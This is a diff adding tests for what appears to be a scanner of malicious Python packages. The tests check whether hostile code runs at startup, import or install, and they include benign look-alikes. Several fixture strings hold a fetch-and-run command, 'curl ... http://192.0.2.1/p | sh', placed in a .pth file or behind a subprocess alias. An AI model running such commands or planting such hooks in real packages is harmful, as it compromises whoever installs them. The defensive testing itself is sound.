@@ -131,3 +131,40 @@ def test_a_module_name_is_matched_from_where_python_looks_it_up(tmp_path: Path):
     src = scan_sdist(tmp_path / "b", {"setup.py": "import demo\n" + PLAIN_SETUP,
                                       "src/demo/__init__.py": "import os\nos.system('ls')\n"})
     assert _runs(src) == "install"
+
+
+def test_a_pth_file_runs_wherever_the_archive_keeps_it(tmp_path: Path):
+    line = "import os; os.system('curl -s -m 1 http://192.0.2.1/p | sh')\n"
+    sdist = scan_sdist(tmp_path / "a", {"setup.py": PLAIN_SETUP, "demo/__init__.py": "", "data/demo.pth": line})
+    data = scan_wheel(tmp_path / "b", {"demo/__init__.py": "",
+                                       "demo-1.0.data/data/lib/python3.11/site-packages/demo.pth": line})
+    assert _runs(sdist, "shell-dropper-command") == "startup" and _runs(data, "shell-dropper-command") == "startup"
+
+
+def test_what_runs_does_not_depend_on_the_order_of_the_archive(tmp_path: Path):
+    files = {"demo/__init__.py": "from . import b\nb.f()\n",
+             "demo/b.py": "from . import c\n\n\ndef f():\n    c.g()\n",
+             "demo/c.py": "import os\n\n\ndef g():\n    os.system('ls')\n"}
+    forward = scan_wheel(tmp_path / "a", files)
+    backward = scan_wheel(tmp_path / "b", dict(reversed(list(files.items()))))
+    assert _runs(forward) == _runs(backward) == "import"
+
+
+def test_an_alias_or_a_command_kept_in_another_module_is_followed(tmp_path: Path):
+    scan = scan_wheel(tmp_path, {"demo/_h.py": "import subprocess as _m\nC = 'curl -s -m 1 http://192.0.2.1/p | sh'\n",
+                                 "demo/__init__.py": "from ._h import _m, C\n_m.Popen(C, shell=True)\n"})
+    assert _runs(scan, "shell-dropper-command") == "import"
+
+
+def test_benign_twins_of_the_new_roots_and_flows(tmp_path: Path):
+    # hatch's version source reads the package's __init__; it does not run it
+    hatch = scan_sdist(tmp_path / "a", {
+        "pyproject.toml": '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
+                          '[tool.hatch.version]\npath = "demo/__init__.py"\n',
+        "demo/__init__.py": "__version__ = '1.0'\n" + SHELL.format(name="update")})
+    assert _runs(hatch) == "library"
+    # a download named after the platform sends no one's identity
+    uname = scan_sdist(tmp_path / "b", {"setup.py": "import platform\nimport urllib.request\n"
+                                        "urllib.request.urlretrieve(f'https://example.invalid/tool-{platform.uname().machine}.tgz',"
+                                        " 'tool.tgz')\n" + PLAIN_SETUP, "demo/__init__.py": ""})
+    assert not any(f.rule_id == "secrets-host-beacon" for f in uname.findings)
